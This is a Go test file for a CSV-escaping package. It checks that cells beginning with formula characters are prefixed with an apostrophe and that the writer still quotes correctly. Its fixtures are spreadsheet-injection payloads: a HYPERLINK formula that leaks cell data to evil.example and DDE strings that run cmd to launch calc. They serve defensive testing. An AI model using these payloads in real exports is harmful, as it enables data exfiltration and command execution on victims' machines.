package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestFormulaCellsAreWrittenAsText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example/?x="&A1,"click")`, `'=HYPERLINK("https://evil.example/?x="&A1,"click")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-A1", "'-A1"},
		{"-inf", "'-inf"},
		{"eng", "eng"},
		{"a=b", "a=b"},
		{"", ""},
		{"-", "-"},
		{"-3", "-3"},
		{"+1.5", "+1.5"},
		{"42", "42"},
	} {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestTheWriterNeutralisesEveryCellAndStillQuotes(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	w.Write([]string{"GROUP", "USERS"})
	if err := w.WriteAll([][]string{{`=1+1`, "3"}, {"a,\"b\"", "@x"}}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"GROUP", "USERS"}, {"'=1+1", "3"}, {"a,\"b\"", "'@x"}}
	for i := range want {
		for j := range want[i] {
			if recs[i][j] != want[i][j] {
				t.Fatalf("read back %q, want %q", recs, want)
			}
		}
	}
}
